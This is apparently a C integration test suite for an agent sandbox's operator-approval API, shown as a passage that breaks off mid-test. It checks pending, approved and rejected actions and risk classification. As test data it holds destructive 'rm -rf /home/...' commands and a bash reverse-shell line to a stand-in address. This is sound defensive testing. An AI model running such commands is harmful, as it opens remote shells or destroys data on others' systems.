/* Integration tests of the approval API (docs/approvals.md) on a real engine and real sandboxes:
 * blocking and ?wait=0 actions, approve/reject and their errors, confirmation_state, policies and
 * declared risk, the approval timeout, pause/delete under a pending action, operator rules and
 * remember, the approvals list, approval events, history search and paging, and engine restarts
 * (SIGTERM and SIGKILL) with pending and in-flight actions.
 *
 * Only commands any classifier calls HIGH (`rm -rf /home/...`) or the declared security_risk and
 * the session's policy decide what waits, so these hold for the placeholder classifier and the
 * real one alike. A request that blocks on its approval runs in a thread of this program; every
 * assertion stays on the main thread. */
#include "harness.h"
#include "sse.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

/* cmocka needs the headers above first. */
#include <cmocka.h>

#include <curl/curl.h>
#include <ftw.h>
#include <math.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define REJECTED_TEXT "Action has been rejected by the user! Waiting for further user input."
#define AGENT_REJECTED "the action arrived with confirmation_state \"rejected\""
#define WAIT_MS 20000
/* What the agent's blocking request may take at most (an approval comes in well before). */
#define BLOCK_MS 120000

/* ---------------------------------------------------------------- fixtures */

#define MAX_TMP 64
static char *tmp_dirs[MAX_TMP];
static int n_tmp;

static int rm_entry(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
    remove(path);
    return 0;
}

/* A host directory the sandbox's agent (any uid) can write: the session's workspace, so the
 * test sees what ran (and what did not) without asking the sandbox. */
static char *ws_new(void)
{
    char *t = strdup("/tmp/paddock-apt-XXXXXX");
    assert_non_null(mkdtemp(t));
    assert_int_equal(chmod(t, 0777), 0);
    assert_true(n_tmp < MAX_TMP);
    tmp_dirs[n_tmp++] = t;
    return t;
}

static bool ws_has(const char *ws, const char *name)
{
    char *p = strdupf("%s/%s", ws, name);
    bool ok = path_exists(p);
    free(p);
    return ok;
}

/* The number of lines of ws/name that equal line (0 when the file is missing). */
static int ws_count_lines(const char *ws, const char *name, const char *line)
{
    char *p = strdupf("%s/%s", ws, name);
    FILE *f = fopen(p, "r");
    free(p);
    if (!f)
        return 0;
    char buf[512];
    int n = 0;
    while (fgets(buf, sizeof(buf), f)) {
        buf[strcspn(buf, "\n")] = '\0';
        if (strcmp(buf, line) == 0)
            n++;
    }
    fclose(f);
    return n;
}

static int group_setup(void **state)
{
    return harness_group_setup(state);
}

/* A session and its workspace (a host directory). */
struct sess {
    char *id;
    char *ws;
};

static struct sess high;

static int group_teardown(void **state)
{
    /* The shared session goes first: a container left behind is a failure. */
    if (high.id && harness_eng) {
        char *p = strdupf("/v1/sessions/%s", high.id);
        struct reply r;
        api(harness_eng, "DELETE", p, NULL, &r);
        reply_free(&r);
        free(p);
        free(high.id);
        high.id = NULL;
    }
    int rc = harness_group_teardown_clean(state);
    for (int i = 0; i < n_tmp; i++) {
        nftw(tmp_dirs[i], rm_entry, 16, FTW_DEPTH | FTW_PHYS);
        free(tmp_dirs[i]);
    }
    n_tmp = 0;
    return rc;
}

/* A test with its own engine (restarts): made by setup, destroyed by teardown even when an
 * assertion fails. */
static struct engine_proc *own;

static int own_setup(void **state)
{
    own = engine_new();
    return 0;
}

static int own_teardown(void **state)
{
    engine_destroy(own);
    own = NULL;
    return 0;
}

/* ---------------------------------------------------------------- sessions and actions */

/* A session with this policy (NULL: the engine's default) and more options ("" or
 * `, "k": v`), its workspace a fresh host directory. */
static struct sess sess_new(struct engine_proc *e, const char *confirm, const char *more)
{
    struct sess s = {.ws = ws_new()};
    char *conf = confirm ? strdupf("\"confirm\": \"%s\", ", confirm) : strdup("");
    char *body = strdupf("{%s\"workspace\": \"%s\"%s}", conf, s.ws, more ? more : "");
    json_t *j = session_new(e, body);
    if (confirm)
        assert_string_equal(jstr(j, "options.confirm"), confirm);
    s.id = strdup(jstr(j, "id"));
    json_decref(j);
    free(body);
    free(conf);
    return s;
}

static void sess_free(struct sess *s)
{
    free(s->id);
    s->id = NULL;
}

/* {"action": {"action": "run", "args": {"command": cmd[, "security_risk": declared]}
 *  [, "confirmation_state": cstate]}}; declared < -1: none. */
static char *run_body(const char *cmd, int declared, const char *cstate)
{
    json_t *args = json_pack("{s:s}", "command", cmd);
    if (declared >= -1)
        json_object_set_new(args, "security_risk", json_integer(declared));
    json_t *action = json_pack("{s:s,s:o}", "action", "run", "args", args);
    if (cstate)
        json_object_set_new(action, "confirmation_state", json_string(cstate));
    json_t *b = json_pack("{s:o}", "action", action);
    char *s = json_dumps(b, JSON_COMPACT);
    json_decref(b);
    return s;
}

#define NO_RISK (-2)

static char *exec_path(const char *sid, bool wait0)
{
    return strdupf("/v1/sessions/%s/execute_action%s", sid, wait0 ? "?wait=0" : "");
}

static void execute(struct engine_proc *e, const char *sid, const char *body, bool wait0,
                    struct reply *r)
{
    char *path = exec_path(sid, wait0);
    http_unix(e->socket, "POST", path, body, -1, BLOCK_MS, r);
    free(path);
}

static void print_reply(const char *what, const struct reply *r)
{
    fprintf(stderr, "%s → HTTP %ld %s\n", what, r->status, r->body ? r->body : r->err);
}

/* ?wait=0: 202 {"action_id", "state"}; asserts the state; returns the id. */
static json_int_t submit(struct engine_proc *e, const char *sid, const char *cmd, int declared,
                         const char *want_state)
{
    char *body = run_body(cmd, declared, NULL);
    struct reply r;
    execute(e, sid, body, true, &r);
    if (r.status != 202 || !jstr(r.json, "state") || strcmp(jstr(r.json, "state"), want_state))
        print_reply(cmd, &r);
    assert_int_equal(r.status, 202);
    assert_string_equal(jstr(r.json, "state"), want_state);
    json_int_t id = json_integer_value(json_object_get(r.json, "action_id"));
    assert_true(id > 0);
    reply_free(&r);
    free(body);
    return id;
}

/* A blocking request, run on a thread of its own. */
struct async {
    pthread_t t;
    char *sock, *method, *path, *body;
    struct reply r;
    atomic_bool done;
};

static void *async_main(void *ud)
{
    struct async *a = ud;
    http_unix(a->sock, a->method, a->path, a->body, -1, BLOCK_MS, &a->r);
    atomic_store(&a->done, true);
    return NULL;
}

static struct async *async_start(struct engine_proc *e, const char *method, const char *path,
                                 const char *body)
{
    struct async *a = calloc(1, sizeof(*a));
    assert_non_null(a);
    a->sock = strdup(e->socket);
    a->method = strdup(method);
    a->path = strdup(path);
    a->body = body ? strdup(body) : NULL;
    atomic_init(&a->done, false);
    assert_int_equal(pthread_create(&a->t, NULL, async_main, a), 0);
    return a;
}

/* The agent's blocking execute_action of a run command. */
static struct async *async_run(struct engine_proc *e, const char *sid, const char *cmd,
                               int declared)
{
    char *body = run_body(cmd, declared, NULL);
    char *path = exec_path(sid, false);
    struct async *a = async_start(e, "POST", path, body);
    free(path);
    free(body);
    return a;
}

static void async_join(struct async *a)
{
    pthread_join(a->t, NULL);
}

static void async_free(struct async *a)
{
    reply_free(&a->r);
    free(a->sock);
    free(a->method);
    free(a->path);
    free(a->body);
    free(a);
}

/* The pending action of this session with this summary, from GET /v1/approvals?session=
 * (asserted to appear); the listed object (caller decrefs) in *out when out. */
static json_int_t wait_pending(struct engine_proc *e, const char *sid, const char *summary,
                               json_t **out)
{
    char *path = strdupf("/v1/approvals?session=%s", sid);
    double deadline = now_ms() + WAIT_MS;
    json_int_t id = 0;
    char *last = NULL;
    while (!id && now_ms() < deadline) {
        struct reply r;
        api(e, "GET", path, NULL, &r);
        assert_int_equal(r.status, 200);
        size_t i;
        json_t *a;
        json_array_foreach(json_object_get(r.json, "approvals"), i, a)
        {
            if (jstr(a, "summary") && strcmp(jstr(a, "summary"), summary) == 0) {
                id = json_integer_value(json_object_get(a, "id"));
                if (out)
                    *out = json_incref(a);
                break;
            }
        }
        free(last);
        last = r.body ? strdup(r.body) : NULL;
        reply_free(&r);
        if (!id)
            sleep_ms(20);
    }
    if (!id)
        fail_msg("no pending action \"%s\" in session %s; approvals: %s", summary, sid,
                 last ? last : "(none)");
    free(last);
    free(path);
    return id;
}

/* GET /v1/actions/{id}[?wait=S] (S < 0: no wait); asserts 200; the action (caller decrefs). */
static json_t *action_get(struct engine_proc *e, json_int_t id, int wait)
{
    char *path = wait >= 0 ? strdupf("/v1/actions/%lld?wait=%d", (long long)id, wait)
                           : strdupf("/v1/actions/%lld", (long long)id);
    struct reply r;
    http_unix(e->socket, "GET", path, NULL, -1, BLOCK_MS, &r);
    if (r.status != 200)
        print_reply(path, &r);
    assert_int_equal(r.status, 200);
    assert_int_equal(json_integer_value(json_object_get(r.json, "id")), id);
    json_t *a = json_incref(r.json);
    reply_free(&r);
    free(path);
    return a;
}

static void assert_state(json_t *a, const char *state, const char *approval)
{
    if (strcmp(jstr(a, "state"), state) != 0 ||
        (approval && strcmp(jstr(a, "approval"), approval) != 0)) {
        char *t = json_dumps(a, JSON_COMPACT);
        fprintf(stderr, "want state %s approval %s; action: %s\n", state,
                approval ? approval : "(any)", t);
        free(t);
    }
    assert_string_equal(jstr(a, "state"), state);
    if (approval)
        assert_string_equal(jstr(a, "approval"), approval);
}

/* POST /v1/actions/{id}/{verb} with body (NULL: none); the reply in r. */
static void decide(struct engine_proc *e, json_int_t id, const char *verb, const char *body,
                   struct reply *r)
{
    char *path = strdupf("/v1/actions/%lld/%s", (long long)id, verb);
    api(e, "POST", path, body, r);
    free(path);
}

/* A decision that must succeed: 200 and the action. */
static json_t *decide_ok(struct engine_proc *e, json_int_t id, const char *verb, const char *body)
{
    struct reply r;
    decide(e, id, verb, body, &r);
    if (r.status != 200)
        print_reply(verb, &r);
    assert_int_equal(r.status, 200);
    json_t *a = json_incref(r.json);
    reply_free(&r);
    return a;
}

/* The reply is an error with this status and code, and the message contains want (if given). */
static void expect_error(struct reply *r, long status, const char *code, const char *want)
{
    const char *msg = jstr(r->json, "error.message");
    if (r->status != status || !jstr(r->json, "error.code") ||
        strcmp(jstr(r->json, "error.code"), code) != 0 || (want && (!msg || !strstr(msg, want))))
        fprintf(stderr, "want HTTP %ld %s \"%s\"; got HTTP %ld %s\n", status, code,
                want ? want : "", r->status, r->body ? r->body : r->err);
    assert_int_equal(r->status, status);
    assert_string_equal(jstr(r->json, "error.code"), code);
    if (want)
        assert_non_null(strstr(msg, want));
}

static void decide_expect(struct engine_proc *e, json_int_t id, const char *verb, const char *body,
                          long status, const char *code, const char *want)
{
    struct reply r;
    decide(e, id, verb, body, &r);
    expect_error(&r, status, code, want);
    reply_free(&r);
}

/* The observation is OpenHands' UserRejectObservation with this reason (NULL: none). */
static void assert_user_rejected(json_t *obs, const char *by, const char *reason)
{
    if (!jstr(obs, "observation") || strcmp(jstr(obs, "observation"), "user_rejected") != 0) {
        char *t = json_dumps(obs, JSON_COMPACT);
        fprintf(stderr, "not a user_rejected observation: %s\n", t ? t : "(null)");
        free(t);
    }
    assert_string_equal(jstr(obs, "observation"), "user_rejected");
    assert_string_equal(jstr(obs, "message"), REJECTED_TEXT);
    if (reason) {
        char *want = strdupf("%s\nReason: %s", REJECTED_TEXT, reason);
        assert_string_equal(jstr(obs, "content"), want);
        free(want);
        assert_string_equal(jstr(obs, "extras.reason"), reason);
    } else {
        assert_string_equal(jstr(obs, "content"), REJECTED_TEXT);
    }
    if (by)
        assert_string_equal(jstr(obs, "extras.decided_by"), by);
}

static bool action_state_final(const char *st)
{
    static const char *const final[] = {"done", "failed", "rejected", "interrupted", "skipped"};
    for (size_t i = 0; st && i < sizeof(final) / sizeof(*final); i++)
        if (strcmp(st, final[i]) == 0)
            return true;
    return false;
}

static void kill_engine(struct engine_proc *e)
{
    assert_true(e->pid > 0);
    assert_int_equal(kill(e->pid, SIGKILL), 0);
    int st;
    assert_int_equal(waitpid(e->pid, &st, 0), e->pid);
    e->pid = 0;
}

static char *escape(const char *s)
{
    char *c = curl_easy_escape(NULL, s, 0);
    char *d = strdup(c);
    curl_free(c);
    return d;
}

/* ---------------------------------------------------------------- the group's sessions */

/* `high`: made once and shared by the tests on the group's engine: confirm "high". */

static void need_high(void)
{
    if (!high.id)
        high = sess_new(harness_eng, "high", NULL);
}

/* ---------------------------------------------------------------- tests */

/* The agent's request blocks until the operator approves; then it gets the real observation. */
static void test_block_then_approve(void **state)
{
    need_high();
    const char *cmd = "rm -rf /home/x && echo approved-ran > /workspace/approved && echo ran-ok";
    struct async *a = async_run(harness_eng, high.id, cmd, NO_RISK);
    json_t *listed = NULL;
    json_int_t id = wait_pending(harness_eng, high.id, cmd, &listed);
    /* The listing carries what the operator needs to decide. */
    assert_string_equal(jstr(listed, "state"), "pending");
    assert_string_equal(jstr(listed, "approval"), "pending");
    assert_string_equal(jstr(listed, "risk"), "high");
    assert_string_equal(jstr(listed, "kind"), "run");
    assert_string_equal(jstr(listed, "session_id"), high.id);
    assert_non_null(jstr(listed, "risk_reason"));
    assert_string_equal(jstr(listed, "args.args.command"), cmd);
    assert_string_equal(jstr(listed, "args.action"), "run");
    double created = json_number_value(json_object_get(listed, "created_at"));
    double deadline = json_number_value(json_object_get(listed, "deadline"));
    /* The default timeout is 600 s. */
    assert_true(fabs(deadline - created - 600.0) < 1.0);
    assert_true(json_is_null(json_object_get(listed, "started_at")));
    json_decref(listed);
    /* Nothing ran and the agent still waits: it cannot end before a decision. */
    assert_false(ws_has(high.ws, "approved"));
    assert_false(atomic_load(&a->done));

    json_t *d = decide_ok(harness_eng, id, "approve", "{\"by\": \"alice\", \"reason\": \"fine\"}");
    assert_string_equal(jstr(d, "approval"), "approved");
    assert_string_equal(jstr(d, "decided_by"), "alice");
    assert_string_equal(jstr(d, "decision_reason"), "fine");
    assert_true(json_is_number(json_object_get(d, "decided_at")));
    json_decref(d);

    async_join(a);
    if (a->r.status != 200)
        print_reply("blocked execute_action", &a->r);
    assert_int_equal(a->r.status, 200);
    assert_string_equal(jstr(a->r.json, "observation"), "run");
    assert_string_equal(jstr(a->r.json, "content"), "ran-ok");
    assert_int_equal(json_integer_value(jpath(a->r.json, "extras.metadata.exit_code")), 0);
    async_free(a);
    assert_true(ws_has(high.ws, "approved"));

    json_t *g = action_get(harness_eng, id, -1);
    assert_state(g, "done", "approved");
    assert_string_equal(jstr(g, "observation.content"), "ran-ok");
    assert_string_equal(jstr(g, "args.args.command"), cmd);
    assert_int_equal(json_integer_value(json_object_get(g, "exit_code")), 0);
    assert_true(json_is_null(json_object_get(g, "deadline")));
    /* started_at is when it was sent, after the decision: the wait is not in the duration. */
    assert_true(json_number_value(json_object_get(g, "started_at")) >=
                json_number_value(json_object_get(g, "decided_at")));
    json_decref(g);

    /* Deciding again: 409 naming who decided; nothing changes. */
    decide_expect(harness_eng, id, "approve", NULL, 409, "already_decided", "alice");
    decide_expect(harness_eng, id, "reject", "{\"by\": \"bob\"}", 409, "already_decided", "alice");
    g = action_get(harness_eng, id, -1);
    assert_state(g, "done", "approved");
    assert_string_equal(jstr(g, "decided_by"), "alice");
    json_decref(g);
}

/* A rejection answers the blocked agent with OpenHands' UserRejectObservation and the reason;
 * the command never runs. */
static void test_block_then_reject(void **state)
{
    need_high();
    const char *cmd = "rm -rf /home/x && touch /workspace/rejected";
    struct async *a = async_run(harness_eng, high.id, cmd, NO_RISK);
    json_int_t id = wait_pending(harness_eng, high.id, cmd, NULL);
    assert_false(atomic_load(&a->done));
    json_t *d =
        decide_ok(harness_eng, id, "reject", "{\"by\": \"bob\", \"reason\": \"not on main\"}");
    assert_state(d, "rejected", "rejected");
    assert_string_equal(jstr(d, "decided_by"), "bob");
    json_decref(d);
    async_join(a);
    if (a->r.status != 200)
        print_reply("blocked execute_action", &a->r);
    assert_int_equal(a->r.status, 200);
    assert_user_rejected(a->r.json, "bob", "not on main");
    assert_int_equal(json_integer_value(jpath(a->r.json, "extras.action_id")), id);
    async_free(a);

    json_t *g = action_get(harness_eng, id, -1);
    assert_state(g, "rejected", "rejected");
    assert_string_equal(jstr(g, "decision_reason"), "not on main");
    assert_user_rejected(json_object_get(g, "observation"), "bob", "not on main");
    assert_true(json_is_null(json_object_get(g, "started_at")));
    json_decref(g);
    decide_expect(harness_eng, id, "approve", NULL, 409, "already_decided", "bob");
    decide_expect(harness_eng, id, "reject", NULL, 409, "already_decided", "not on main");

    /* A rejection without a reason: the bare text; the default decider is "operator". */
    const char *cmd2 = "rm -rf /home/x && touch /workspace/rejected2";
    a = async_run(harness_eng, high.id, cmd2, NO_RISK);
    id = wait_pending(harness_eng, high.id, cmd2, NULL);
    json_decref(decide_ok(harness_eng, id, "reject", NULL));
    async_join(a);
    assert_int_equal(a->r.status, 200);
    assert_user_rejected(a->r.json, "operator", NULL);
    async_free(a);

    /* Proof that nothing ran: a command after them has run, and their files are not there. */
    json_t *obs = session_run(harness_eng, high.id, "ls /workspace | wc -l");
    json_decref(obs);
    assert_false(ws_has(high.ws, "rejected"));
    assert_false(ws_has(high.ws, "rejected2"));
}

/* ?wait=0 answers 202 at once; GET /v1/actions/{id}?wait=S long-polls its end. */
static void test_wait0_and_long_poll(void **state)
{
    need_high();
    const char *cmd = "rm -rf /home/x && echo polled > /workspace/polled && echo poll-out";
    json_int_t id = submit(harness_eng, high.id, cmd, NO_RISK, "pending");

    /* Nothing happens for a second: the poll answers the current, pending state. */
    json_t *g = action_get(harness_eng, id, 1);
    assert_state(g, "pending", "pending");
    assert_true(json_is_null(json_object_get(g, "observation")));
    assert_string_equal(jstr(g, "args.args.command"), cmd);
    json_decref(g);

    /* A long poll in flight answers when it ends. */
    char *path = strdupf("/v1/actions/%lld?wait=120", (long long)id);
    struct async *p = async_start(harness_eng, "GET", path, NULL);
    struct async *p2 = async_start(harness_eng, "GET", path, NULL);
    free(path);
    json_decref(decide_ok(harness_eng, id, "approve", NULL));
    async_join(p);
    async_join(p2);
    for (int i = 0; i < 2; i++) {
        struct async *x = i ? p2 : p;
        if (x->r.status != 200)
            print_reply("long poll", &x->r);
        assert_int_equal(x->r.status, 200);
        assert_state(x->r.json, "done", "approved");
        assert_string_equal(jstr(x->r.json, "decided_by"), "operator");
        assert_string_equal(jstr(x->r.json, "observation.content"), "poll-out");
    }
    async_free(p);
    async_free(p2);
    assert_true(ws_has(high.ws, "polled"));

    /* A final action answers a poll at once. */
    g = action_get(harness_eng, id, 600);
    assert_state(g, "done", "approved");
    json_decref(g);

    /* A LOW action with ?wait=0 runs at once: 202 "running", then done. */
    id = submit(harness_eng, high.id, "echo low-wait0", NO_RISK, "running");
    g = action_get(harness_eng, id, 60);
    assert_state(g, "done", "none");
    assert_string_equal(jstr(g, "observation.content"), "low-wait0");
    json_decref(g);

    /* While it runs, the record says so (and its start time), not "received". */
    id = submit(harness_eng, high.id, "sleep 2; echo slept", NO_RISK, "running");
    g = action_get(harness_eng, id, 0);
    assert_state(g, "running", "none");
    assert_true(json_is_number(json_object_get(g, "started_at")));
    json_decref(g);
    g = action_get(harness_eng, id, 60);
    assert_state(g, "done", "none");
    json_decref(g);

    /* Bad waits: 400, nothing recorded. */
    struct reply r;
    char *body = run_body("touch /workspace/badwait", NO_RISK, NULL);
    static const char *const bad_exec[] = {"?wait=2", "?wait=abc", "?wait=", "?wait=-1"};
    for (size_t i = 0; i < sizeof(bad_exec) / sizeof(*bad_exec); i++) {
        char *pth = strdupf("/v1/sessions/%s/execute_action%s", high.id, bad_exec[i]);
        api(harness_eng, "POST", pth, body, &r);
        expect_error(&r, 400, "bad_request", "wait");
        reply_free(&r);
        free(pth);
    }
    free(body);
    static const char *const bad_get[] = {"?wait=601", "?wait=x", "?wait=-3", "?wait=1e9"};
    for (size_t i = 0; i < sizeof(bad_get) / sizeof(*bad_get); i++) {
        char *pth = strdupf("/v1/actions/%lld%s", (long long)id, bad_get[i]);
        api(harness_eng, "GET", pth, NULL, &r);
        expect_error(&r, 400, "bad_request", "wait");
        reply_free(&r);
        free(pth);
    }
    assert_false(ws_has(high.ws, "badwait"));
    /* Unknown and malformed action ids. */
    api(harness_eng, "GET", "/v1/actions/987654321", NULL, &r);
    expect_error(&r, 404, "not_found", "987654321");
    reply_free(&r);
    api(harness_eng, "GET", "/v1/actions/987654321?wait=1", NULL, &r);
    expect_error(&r, 404, "not_found", NULL);
    reply_free(&r);
    static const char *const bad_ids[] = {"abc", "0", "-1", "12x", "1.5", "%20"};
    for (size_t i = 0; i < sizeof(bad_ids) / sizeof(*bad_ids); i++) {
        char *pth = strdupf("/v1/actions/%s", bad_ids[i]);
        api(harness_eng, "GET", pth, NULL, &r);
        expect_error(&r, 400, "bad_request", "positive integer");
        reply_free(&r);
        free(pth);
    }
}

/* The agent gives up waiting (its connection closes while the action is pending, or while a
 * long poll waits): the decision still applies, the engine answers nobody and stays well. */
static void test_agent_gave_up(void **state)
{
    need_high();
    const char *cmd = "rm -rf /home/x && echo gave-up >> /workspace/gave-up";
    char *body = run_body(cmd, NO_RISK, NULL);
    char *path = exec_path(high.id, false);
    struct reply r;
    http_unix(harness_eng->socket, "POST", path, body, -1, 1000, &r);
    assert_true(r.status < 0); /* timed out: nothing can answer before a decision */
    reply_free(&r);
    free(path);
    free(body);
    json_int_t id = wait_pending(harness_eng, high.id, cmd, NULL);
    path = strdupf("/v1/actions/%lld?wait=60", (long long)id);
    http_unix(harness_eng->socket, "GET", path, NULL, -1, 1000, &r);
    assert_true(r.status < 0);
    reply_free(&r);
    free(path);
    json_decref(decide_ok(harness_eng, id, "approve", NULL));
    json_t *g = action_get(harness_eng, id, 60);
    assert_state(g, "done", "approved");
    assert_string_equal(jstr(g, "observation.content"), "");
    json_decref(g);
    assert_int_equal(ws_count_lines(high.ws, "gave-up", "gave-up"), 1);

    /* The same for a rejection. */
    const char *cmd2 = "rm -rf /home/x && touch /workspace/gave-up-rejected";
    body = run_body(cmd2, NO_RISK, NULL);
    path = exec_path(high.id, false);
    http_unix(harness_eng->socket, "POST", path, body, -1, 1000, &r);
    assert_true(r.status < 0);
    reply_free(&r);
    free(path);
    free(body);
    id = wait_pending(harness_eng, high.id, cmd2, NULL);
    json_decref(decide_ok(harness_eng, id, "reject", NULL));
    g = action_get(harness_eng, id, -1);
    assert_state(g, "rejected", "rejected");
    json_decref(g);
    json_decref(session_run(harness_eng, high.id, "true"));
    assert_false(ws_has(high.ws, "gave-up-rejected"));
}

/* confirmation_state "rejected" is recorded and never run; "awaiting_confirmation" is skipped
 * with OpenHands' null observation. */
static void test_confirmation_state(void **state)
{
    need_high();
    struct reply r;
    char *body = run_body("touch /workspace/cs-rejected", NO_RISK, "rejected");
    execute(harness_eng, high.id, body, false, &r);
    free(body);
    assert_int_equal(r.status, 200);
    assert_user_rejected(r.json, "agent", AGENT_REJECTED);
    reply_free(&r);

    body = run_body("touch /workspace/cs-awaiting", NO_RISK, "awaiting_confirmation");
    execute(harness_eng, high.id, body, false, &r);
    free(body);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "observation"), "null");
    assert_string_equal(jstr(r.json, "content"), "");
    reply_free(&r);

    /* With ?wait=0 the same: 202 with the final state. */
    body = run_body("rm -rf /home/x && touch /workspace/cs-rejected0", NO_RISK, "rejected");
    execute(harness_eng, high.id, body, true, &r);
    free(body);
    assert_int_equal(r.status, 202);
    assert_string_equal(jstr(r.json, "state"), "rejected");
    json_int_t rid = json_integer_value(json_object_get(r.json, "action_id"));
    reply_free(&r);
    body = run_body("touch /workspace/cs-awaiting0", NO_RISK, "awaiting_confirmation");
    execute(harness_eng, high.id, body, true, &r);
    free(body);
    assert_int_equal(r.status, 202);
    assert_string_equal(jstr(r.json, "state"), "skipped");
    json_int_t sid = json_integer_value(json_object_get(r.json, "action_id"));
    reply_free(&r);

    /* "confirmed" runs as usual. */
    body = run_body("echo confirmed-ran", NO_RISK, "confirmed");
    execute(harness_eng, high.id, body, false, &r);
    free(body);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "content"), "confirmed-ran");
    reply_free(&r);

    json_t *g = action_get(harness_eng, rid, -1);
    assert_state(g, "rejected", "rejected");
    assert_string_equal(jstr(g, "decided_by"), "agent");
    assert_user_rejected(json_object_get(g, "observation"), "agent", AGENT_REJECTED);
    json_decref(g);
    g = action_get(harness_eng, sid, -1);
    assert_state(g, "skipped", "none");
    assert_string_equal(jstr(g, "observation.observation"), "null");
    json_decref(g);
    /* Neither is pending: nothing to decide. */
    decide_expect(harness_eng, rid, "approve", NULL, 409, "already_decided", "agent");
    decide_expect(harness_eng, sid, "approve", NULL, 409, "not_pending", "skipped");

    /* A wrong type: 400, nothing recorded. */
    execute(harness_eng, high.id,
            "{\"action\": {\"action\": \"run\", \"args\": {\"command\": \"touch "
            "/workspace/cs-bad\"}, \"confirmation_state\": 5}}",
            false, &r);
    expect_error(&r, 400, "bad_request", "confirmation_state");
    reply_free(&r);

    json_t *obs = session_run(harness_eng, high.id, "true");
    json_decref(obs);
    static const char *const never[] = {"cs-rejected", "cs-awaiting", "cs-rejected0",
                                        "cs-awaiting0", "cs-bad"};
    for (size_t i = 0; i < sizeof(never) / sizeof(*never); i++)
        if (ws_has(high.ws, never[i]))
            fail_msg("%s exists: the action ran", never[i]);
}

/* OpenHands puts confirmation_state inside args: "rejected" there is recorded and never runs,
 * whatever the top level says; "awaiting_confirmation" there is skipped; the agent's
 * "confirmed" never skips the operator, and is recorded as the agent sent it. */
static void test_confirmation_state_in_args(void **state)
{
    need_high();
    struct reply r;
    execute(harness_eng, high.id,
            "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"touch "
            "/workspace/csa-rejected\",\"confirmation_state\":\"rejected\"}}}",
            false, &r);
    assert_int_equal(r.status, 200);
    assert_user_rejected(r.json, "agent", AGENT_REJECTED);
    reply_free(&r);

    /* "confirmed" at the top level does not hide "rejected" in args */
    execute(harness_eng, high.id,
            "{\"action\":{\"action\":\"run\",\"confirmation_state\":\"confirmed\",\"args\":"
            "{\"command\":\"touch /workspace/csa-both\",\"confirmation_state\":\"rejected\"}}}",
            true, &r);
    assert_int_equal(r.status, 202);
    assert_string_equal(jstr(r.json, "state"), "rejected");
    json_int_t rid = json_integer_value(json_object_get(r.json, "action_id"));
    reply_free(&r);

    execute(harness_eng, high.id,
            "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"touch "
            "/workspace/csa-awaiting\",\"confirmation_state\":\"awaiting_confirmation\"}}}",
            true, &r);
    assert_int_equal(r.status, 202);
    assert_string_equal(jstr(r.json, "state"), "skipped");
    reply_free(&r);

    /* the agent's "confirmed" on a HIGH action: it still waits for the operator */
    const char *cmd = "rm -rf /home/x && touch /workspace/csa-confirmed";
    char *body = strdupf("{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"%s\","
                         "\"confirmation_state\":\"confirmed\",\"security_risk\":0}}}",
                         cmd);
    execute(harness_eng, high.id, body, true, &r);
    free(body);
    assert_int_equal(r.status, 202);
    assert_string_equal(jstr(r.json, "state"), "pending");
    json_int_t pid = json_integer_value(json_object_get(r.json, "action_id"));
    reply_free(&r);
    json_t *g = action_get(harness_eng, pid, -1);
    assert_state(g, "pending", "pending");
    /* what the agent declared is on record, beside paddock's own */
    assert_string_equal(jstr(g, "args.args.confirmation_state"), "confirmed");
    assert_string_equal(jstr(g, "declared_risk"), "low");
    assert_string_equal(jstr(g, "risk"), "high");
    json_decref(g);
    decide(harness_eng, pid, "reject", NULL, &r);
    assert_int_equal(r.status, 200);
    reply_free(&r);

    g = action_get(harness_eng, rid, -1);
    assert_state(g, "rejected", "rejected");
    assert_string_equal(jstr(g, "decided_by"), "agent");
    json_decref(g);

    /* a wrong type in args: 400, nothing recorded */
    execute(harness_eng, high.id,
            "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"touch /workspace/csa-bad\","
            "\"confirmation_state\":[1]}}}",
            false, &r);
    expect_error(&r, 400, "bad_request", "confirmation_state");
    reply_free(&r);

    json_decref(session_run(harness_eng, high.id, "true"));
    static const char *const never[] = {"csa-rejected", "csa-both", "csa-awaiting", "csa-confirmed",
                                        "csa-bad"};
    for (size_t i = 0; i < sizeof(never) / sizeof(*never); i++)
        if (ws_has(high.ws, never[i]))
            fail_msg("%s exists: the action ran", never[i]);
}

/* The number of actions the engine has recorded in a session. */
static size_t recorded(const char *sid)
{
    char *p = strdupf("/v1/history?session=%s&limit=1000", sid);
    struct reply r;
    api(harness_eng, "GET", p, NULL, &r);
    free(p);
    assert_int_equal(r.status, 200);
    size_t n = json_array_size(json_object_get(r.json, "actions"));
    reply_free(&r);
    return n;
}

/* POST /v1/risk: what execute_action would make of an action, recording nothing. */
static void test_risk_route(void **state)
{
    need_high();
    size_t before = recorded(high.id);
    struct reply r;
    api(harness_eng, "POST", "/v1/risk",
        "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"bash -i >& "
        "/dev/tcp/203.0.113.7/4444 0>&1\"}}}",
        &r);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "risk"), "high");
    assert_non_null(strstr(jstr(r.json, "reason"), "opens a shell to 203.0.113.7:4444"));
    assert_true(json_is_null(json_object_get(r.json, "rule")));
    assert_true(json_is_null(json_object_get(r.json, "declared_risk")));
    reply_free(&r);

    /* the agent's declared risk: shown, and the higher one decides */
    api(harness_eng, "POST", "/v1/risk",
        "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"ls\",\"security_risk\":2}}}", &r);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "risk"), "high");
    assert_string_equal(jstr(r.json, "declared_risk"), "high");
    reply_free(&r);
    api(harness_eng, "POST", "/v1/risk",
        "{\"action\":{\"action\":\"write\",\"args\":{\"path\":\"/workspace/a.py\","
        "\"content\":\"x = 1\\n\"}}}",
        &r);
    assert_int_equal(r.status, 200);
    assert_string_equal(jstr(r.json, "risk"), "low");
    reply_free(&r);

    /* with a session, the rule that would decide it */
    char *p = strdupf("/v1/sessions/%s/rules", high.id);
    api(harness_eng, "POST", p, "{\"pattern\": \"git push *\", \"decision\": \"deny\"}", &r);
